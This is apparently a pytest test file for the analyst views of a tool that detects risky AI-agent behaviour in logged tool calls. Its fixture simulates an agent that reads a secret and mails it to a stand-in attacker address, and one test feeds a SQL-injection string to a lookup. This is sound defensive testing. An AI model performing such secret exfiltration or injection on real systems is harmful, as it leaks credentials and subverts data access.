"""The views the commands print, on a small warehouse and the analyst database published from it."""

from __future__ import annotations

import shutil
from datetime import datetime, timedelta
from pathlib import Path

import duckdb
import pytest

from detectors.analyst.views import (
    anomaly_summary,
    busiest_tasks,
    most_urgent_open_finding,
    recommendations,
    records_by_format,
    task_findings,
    task_header,
    task_timeline,
)
from detectors.core.settings import Settings, load_settings
from detectors.core.sqlfiles import run_sql
from detectors.core.warehouse import connect
from detectors.findings.merge import set_triage
from detectors.stages import export_and_publish, run_detection
from tests.conftest import TEST_KEY, Ingester, native_task


def action(event_id: str, ts: str, task: str, agent: str, tool: str, **more) -> dict:
    return {
        "record_type": "action",
        "event_id": event_id,
        "ts": ts,
        "agent_id": agent,
        "task_id": task,
        "tool": tool,
        **more,
    }


# task-1 reads a secret then mails it out (one finding, evidence r and x); task-2 only queries.
RECORDS = [
    *native_task("task-1", "agent-a", "2026-11-01T09:00:00Z", "2026-11-01T09:10:00Z"),
    action(
        "r",
        "2026-11-01T09:02:00Z",
        "task-1",
        "agent-a",
        "get_secret",
        action_class="read",
        sensitivity="high",
    ),
    action(
        "x",
        "2026-11-01T09:03:00Z",
        "task-1",
        "agent-a",
        "send_email",
        arguments={"to": "drop@evil.example.net"},
    ),
    *native_task("task-2", "agent-b", "2026-11-01T10:00:00Z", "2026-11-01T10:05:00Z"),
    action("q", "2026-11-01T10:01:00Z", "task-2", "agent-b", "query_db"),
]


def settings_in(folder: Path) -> Settings:
    return load_settings(db_path=folder / "wh" / "chainwatch.duckdb", hash_key=TEST_KEY)


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """A folder with the warehouse (ingested, detected) and its published analyst database."""
    folder = tmp_path_factory.mktemp("views")
    settings = settings_in(folder)
    con = connect(settings.db_path)
    try:
        Ingester(con, settings, folder).lines("n.jsonl", RECORDS)
        run_detection(con, settings)
        export_and_publish(con, settings)
    finally:
        con.close()
    return folder


@pytest.fixture
def warehouse(built: Path):
    con = connect(settings_in(built).db_path, read_only=True)
    yield con
    con.close()


@pytest.fixture
def published(built: Path):
    con = connect(settings_in(built).published_path, read_only=True)
    yield con
    con.close()


def test_records_by_format_counts_files_since_a_time_inclusive(warehouse):
    (started,) = warehouse.execute("SELECT started_at FROM ingest_files").fetchone()
    assert records_by_format(warehouse, started) == [("native", 1, 7, 7, 0, 0)]
    assert records_by_format(warehouse, started + timedelta(microseconds=1)) == []


def test_busiest_tasks_most_actions_first(warehouse):
    assert busiest_tasks(warehouse, 1) == [
        (
            "task-1",
            "agent-a",
            2,
            datetime(2026, 11, 1, 9, 0),
            datetime(2026, 11, 1, 9, 10),
            "task_event",
            "completed",
        )
    ]
    assert [r[0] for r in busiest_tasks(warehouse, 5)] == ["task-1", "task-2"]


def test_anomaly_summary_is_empty_before_scoring_and_counts_p99_inclusive(tmp_path: Path):
    con = duckdb.connect(str(tmp_path / "a.duckdb"))
    try:
        assert anomaly_summary(con) == []
        run_sql(con, "anomaly_models")
        assert anomaly_summary(con) == []  # the table, no scores yet
        for task, group, pct in (
            ("t1", "g1", 98.99),
            ("t2", "g1", 99.0),
            ("t3", "g1", 99.46),
            ("t4", "g2", 10.0),
        ):
            con.execute(
                """INSERT INTO task_anomaly_scores (task_id, peer_group, model_id, version,
                       iforest_score, iforest_percentile, baseline_score, tail_score, fused_score,
                       fused_percentile, dominant_signal, scored_at)
                   VALUES (?, ?, 'm_' || ?, 3, 0.5, 50, 0, 0, 1, ?, 'iforest', now())""",
                [task, group, group, pct],
            )
        assert anomaly_summary(con) == [
            ("g1", 3, "m_g1 v3", 2, 99.5),
            ("g2", 1, "m_g2 v3", 0, 10.0),
        ]
    finally:
        con.close()


def test_task_header_with_and_without_risk(published):
    header = task_header(published, "task-1")
    assert header == {
        "task_id": "task-1",
        "agent_id": "agent-a",
        "started_at": datetime(2026, 11, 1, 9, 0),
        "ended_at": datetime(2026, 11, 1, 9, 10),
        "status": "completed",
        "actions": 2,
        "risk_score": 80,
        "anomaly_percentile": None,
        "rule_findings": 1,
    }
    assert task_header(published, "task-2")["risk_score"] is None  # no finding, no risk row
    assert task_header(published, "task-1' OR '1'='1") is None


def test_task_timeline_marks_the_evidence_of_the_tasks_findings(published):
    events = task_timeline(published, "task-1")
    assert [(e["event_id"], e["kind"], e["is_evidence"]) for e in events] == [
        ("native:task-1-s", "task", False),
        ("native:r", "action", True),
        ("native:x", "action", True),
        ("native:task-1-e", "task", False),
    ]
    assert events[2]["destination"] == "drop@evil.example.net"
    assert not any(e["after_task_end"] for e in events)
    assert [e["is_evidence"] for e in task_timeline(published, "task-2")] == [False] * 3
    assert task_timeline(published, "nope") == []


def test_task_findings(published):
    ((finding_id, priority, severity, rule, detail),) = task_findings(published, "task-1")
    assert finding_id.startswith("f_") and (priority, severity, rule) == (
        80,
        "high",
        "sensitive_read_then_egress",
    )
    assert 0 < len(detail) <= 90
    assert task_findings(published, "task-2") == []


def test_recommendations_filter_by_agent_and_category(warehouse):
    every = recommendations(warehouse)
    assert {"agent_id", "category", "item", "recommendation"} <= set(every.columns)
    assert sorted((r["agent_id"], r["item"]) for r in every.records()) == [
        ("agent-a", "mail"),
        ("agent-a", "secrets"),
        ("agent-b", "database"),
    ]
    assert [r["item"] for r in recommendations(warehouse, agent_id="agent-b").records()] == [
        "database"
    ]
    assert len(recommendations(warehouse, category="access").rows) == 3
    none = recommendations(warehouse, agent_id="agent-a", category="ttl")
    assert none.rows == [] and none.columns == every.columns
    assert recommendations(warehouse, agent_id="").rows == []  # "" is a value, as before


def test_most_urgent_open_finding_until_it_is_resolved(built: Path, tmp_path: Path):
    shutil.copytree(built, tmp_path / "copy")
    settings = settings_in(tmp_path / "copy")
    published = connect(settings.published_path, read_only=True)
    (expected,) = published.execute("SELECT finding_id FROM findings").fetchone()
    assert most_urgent_open_finding(published) == expected
    published.close()
    con = connect(settings.db_path)
    try:
        assert set_triage(con, expected, "resolved")
        export_and_publish(con, settings)
    finally:
        con.close()
    published = connect(settings.published_path, read_only=True)
    try:
        assert most_urgent_open_finding(published) is None
    finally:
        published.close()
